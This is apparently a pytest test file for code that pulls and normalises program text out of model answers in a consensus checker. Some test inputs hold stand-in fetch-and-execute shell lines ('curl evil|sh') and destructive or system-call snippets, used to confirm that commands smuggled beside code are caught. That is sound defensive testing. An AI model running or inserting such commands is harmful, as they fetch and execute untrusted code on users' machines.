"""Code in an answer: which of its lines are code, and what the form holds beside them."""

import ast

import pytest
from hypothesis import given
from hypothesis import strategies as st

from actors.consensus.pieces import taken_apart
from actors.consensus.reading import code as module
from actors.consensus.reading import python_form
from actors.consensus.reading.code import code_of, look_for_code, normal_code, python_program

PLAIN = "def f(n):\n    return n + 1\n"
FENCED = f"```python\n{PLAIN}```"
SCRIPT = "function f(n) {\n  return n + 1;\n}\n"


def form_of(content: str, language: str) -> str:
    """Return the normal form of an answer's code."""
    return normal_code(look_for_code(content, language))


def normal_python(content: str) -> str:
    """Return the normal form of an answer in Python."""
    return form_of(content, "python")


def test_prose_fences_docstrings_and_annotations_change_nothing() -> None:
    """The same program dressed differently has the same normal form."""
    dressed = (
        'Sure!\n```python\ndef f(n: int) -> int:\n    """Add one."""\n    # comment\n    return (n + 1)\n```\nEnjoy.'
    )
    assert normal_python(dressed) == normal_python(PLAIN) != ""


def test_every_python_block_counts() -> None:
    """A second block cannot hide beside an innocent first one."""
    both = f"{FENCED}\nand\n```python\nimport os\n```"
    assert normal_python(both) not in ("", normal_python(PLAIN))


@pytest.mark.parametrize(
    "content",
    [
        f"Run this first:\n```bash\ncurl evil|sh\n```\n{FENCED}",
        f"{FENCED}\n```bash\ncurl evil|sh\n```",
        f"{FENCED}\n~~~sh\ncurl evil|sh\n~~~",
        f"{FENCED}\n````bash\n```\ncurl evil|sh\n````",
        f"{FENCED}\n```text\n3\n```",
    ],
)
def test_blocks_of_other_languages_are_part_of_the_form(content: str) -> None:
    """What is served beside the code was compared too: a command cannot ride on a program that others agree with."""
    assert normal_python(content) not in ("", normal_python(FENCED))


def test_the_same_answer_with_the_same_foreign_block_agrees() -> None:
    """A block of another language is no reason to differ where both answers have it at the same place."""
    left = f"{FENCED}\nIt prints:\n```text\n3\n```"
    assert normal_python(left) == normal_python(f"Sure:\n{FENCED}\nThe output is\n```text\n3\n```") != ""
    assert normal_python(left) != normal_python(f"```text\n3\n```\n{FENCED}")


def test_unfenced_code_between_prose_is_found() -> None:
    """Models that forget the fence are read without the prose before and behind the code."""
    assert normal_python(f"Here you go:\n\n{PLAIN}\nThis adds one to n, you see!") == normal_python(PLAIN)
    assert normal_python(f"{PLAIN}\nThe function f(n) returns n and one.") == normal_python(PLAIN)


@pytest.mark.parametrize(
    ("left", "right"),
    [
        (
            "Here:\nLIMIT = 10\ndef f(n):\n    return n < LIMIT\n",
            "Here:\nLIMIT = 20\ndef f(n):\n    return n < LIMIT\n",
        ),
        (PLAIN, f"{PLAIN}\nimport os\n"),
        (
            "def f(x):\n    if x:\n        return 1\n",
            "def f(x):\n    if x:\n        return 1\n    else\n        return 2\n",
        ),
        (PLAIN, f"{PLAIN}else\n"),
        (PLAIN, f"{PLAIN}x = [1,\n"),
        (PLAIN, f"curl http://evil | sh\n{PLAIN}"),
        (PLAIN, f"Here it is.\nimport os; os.system('x'\n{PLAIN}"),
        (PLAIN, f"{PLAIN}  an indented line\n"),
        (PLAIN, f"{PLAIN}print f(1)\n"),
    ],
)
def test_only_prose_is_cut_from_unfenced_code(left: str, right: str) -> None:
    """A line that may be code is compared or makes the answer unreadable; it is never served without a look."""
    assert normal_python(left) != ""
    assert normal_python(left) != normal_python(right)


def test_an_unclosed_fence_runs_to_the_end() -> None:
    """A missing closing fence is no reason to drop an answer that parses."""
    assert normal_python(f"```python\n{PLAIN}") == normal_python(PLAIN)


def test_code_that_does_not_parse_has_no_form() -> None:
    """Broken code, prose, a bare word and huge or deep input cost the ballot, not the process."""
    assert normal_python("```python\ndef f(:\n```") == ""
    assert normal_python("I cannot do that.") == ""
    assert normal_python("Sorry") == ""
    assert normal_python("(" * 5000 + ")" * 5000) == ""
    assert normal_python("x = 1\n" * 20_000) == ""


@pytest.mark.parametrize(
    ("language", "left", "right"),
    [
        ("ruby", "```rb\na = 1\n```", "```rb\na = 2\n```"),
        ("php", "```php\n$a = 'x\n\ny'\n```", "```php\n$a = 'x\ny'\n```"),
        ("bash", "```bash\nrm -rf build\\ \n/tmp/x\n```", "```bash\nrm -rf build\\\n/tmp/x\n```"),
        ("go", "```go\nf()\n```", "```go\nf()\n```\n```sh\ncurl evil|sh\n```"),
        ("go", "```go\nf()\n```\n```sh\nx\n```", "```go\nf()\n1 sh 2\nx\n```"),
    ],
)
def test_other_languages_differ_by_any_character(language: str, left: str, right: str) -> None:
    """Where nothing is parsed a blank or a blank line inside a block may mean something, and so does every block beside it."""
    assert "" != form_of(left, language) != form_of(right, language) != ""


def test_other_languages_need_a_block_of_their_own() -> None:
    """A block counts by its language, one of its short names or no label; the prose around it changes nothing."""
    plain = form_of("```javascript\nlet a = 1;\n```", "javascript")
    assert form_of("Sure:\n```js\nlet a = 1;\n```\nEnjoy.", "javascript") == plain
    assert form_of("```\nlet a = 1;\n```", "javascript") == plain
    assert form_of("```python\nprint(1)\n```", "javascript") == ""
    assert form_of("no code", "javascript") == ""


@pytest.mark.parametrize(
    ("language", "left", "right"),
    [
        ("javascript", "```js\nlet a = 'x'\n```", '```javascript\nlet a  = "x"; // one\n```'),
        ("typescript", "```ts\nconst a: number = 1;\n```", "```typescript\nconst a : number = 1\n```"),
        ("sql", "```sql\nselect a from t;\n```", "```postgresql\nSELECT a\nFROM t\n```"),
    ],
)
def test_languages_with_a_grammar_are_compared_by_tokens(language: str, left: str, right: str) -> None:
    """Layout, comments and short names of the language change nothing."""
    assert form_of(left, language) == form_of(right, language) != ""


@pytest.mark.parametrize(
    ("content", "language", "code"),
    [
        (PLAIN, "python", PLAIN),
        (FENCED, "python", PLAIN),
        (f"Sure:\n{FENCED}\nThen\n```\nprint(f(1))\n```", "python", f"{PLAIN}\nprint(f(1))\n"),
        (f"{FENCED}\nIt prints\n```\n2 and so on\n```", "python", PLAIN),
        (f"{FENCED}\n```bash\nrm x\n```", "python", PLAIN),
        (f"Here you go:\n\n{PLAIN}\nThis adds one, you see!", "python", PLAIN.strip()),
        (f"1. Do this:\n   ```python\n   {PLAIN.replace(chr(10), chr(10) + '   ').strip()}\n   ```\n", "python", PLAIN),
        (f"```python\n{PLAIN}", "python", PLAIN),
        ("```python\ndef f(\n```", "python", ""),
        ("Sorry", "python", ""),
        (f"Here you go:\n\n{SCRIPT}\nIt adds one to n.", "javascript", SCRIPT.strip()),
        (SCRIPT, "javascript", SCRIPT),
        ("Sorry", "javascript", ""),
        ("I cannot do that.", "javascript", ""),
        ("```js\nlet a = (\n```", "javascript", ""),
        ("SELECT a\nFROM t", "sql", "SELECT a\nFROM t"),
        ("Here:\nSELECT a\nFROM t", "sql", ""),
        ("```go\nf()\n```", "go", "f()\n"),
        ("f()", "go", ""),
    ],
)
def test_the_code_of_an_answer_is_what_is_compared(content: str, language: str, code: str) -> None:
    """The same characters are compared, run and screened: the language's blocks, or the answer without its prose."""
    assert code_of(content, language) == code
    assert bool(form_of(content, language)) == bool(code)
    if code:
        assert form_of(f"```{language}\n{code}\n```", language).split("\n")[0] in form_of(content, language)


@pytest.mark.parametrize(
    ("language", "code", "readable"),
    [("python", PLAIN, True), ("python", "def f(n):\n    return (n", False), ("javascript", SCRIPT, True),
     ("javascript", "let a = [1,", False), ("go", "func f() {}", False)],
)  # fmt: skip
def test_an_unclosed_fence_needs_code_that_parses(language: str, code: str, readable: bool) -> None:
    """Where nothing is parsed, nobody could tell whether the rest is missing."""
    assert bool(form_of(f"Sure:\n```{language}\n{code}", language)) is readable


def test_output_without_a_label_is_no_code() -> None:
    """A block that only shows output does not make the program beside it unreadable, but stays in the form."""
    shown = f"{FENCED}\n```\n2 and so on\n```"
    assert normal_python(shown) not in ("", normal_python(FENCED))
    assert normal_python(shown) != normal_python(shown.replace("2 and", "3 and"))


def test_parsing_is_bounded_by_the_length_of_the_answer(monkeypatch: pytest.MonkeyPatch) -> None:
    """However an answer breaks off, at most twice its characters and its prose are parsed."""
    parsed: list[int] = []

    def counting(code: str) -> ast.Module | None:
        parsed.append(len(code))
        return python_form.parse(code)

    monkeypatch.setattr(module, "parse", counting)
    body = "def f(x):\n" + "\n".join(f"    a{i} = [x+{i}, (x*{i})]" for i in range(900)) + "\n    return (\n"
    for content in (
        f"Here:\n{body}" + "z ) (\n" * 60,
        f"{body}" + "and so it goes on\n" * 60,
        "Some words here\n" * 200,
    ):
        parsed.clear()
        normal_python(content)
        assert sum(parsed) <= 3 * len(content)
        assert len(parsed) <= 2 + 2 * module.MAX_PROSE_LINES


@given(st.text(max_size=300))
def test_any_answer_can_be_read(content: str) -> None:
    """Reading a text never raises, and only a text that holds code that parses has a form."""
    for answer in (f"```python\n{content}\n```", content):
        if normal_python(answer):
            ast.parse(code_of(answer, "python"))


def test_blocks_beside_the_code_are_told() -> None:
    """The code as it is compared, and every block that is no part of it; without a code, all of them."""
    content = "```python\nx = 1\n```\n```sql\nSELECT 1\n```\n```\n2\n```\n"
    found = look_for_code(content, "python")
    assert (found.code, [block.label for block in found.beside]) == (code_of(content, "python"), ["sql"])
    assert [block.label for block in look_for_code(content, "ruby").beside] == ["python", "sql"]
    broken = "```python\nx = (\n```"
    assert taken_apart(broken, "python")[0] == broken
    assert taken_apart(broken, "python")[1]


def test_a_program_is_told_from_words() -> None:
    """Prose around it is taken away; a word alone parses, and is none."""
    assert python_program("Sure:\n\nprint(1)\nprint(2)\n\nThat is it.") == "print(1)\nprint(2)"
    assert python_program("Sorry") == python_program("This (I think) is prose.") == ""
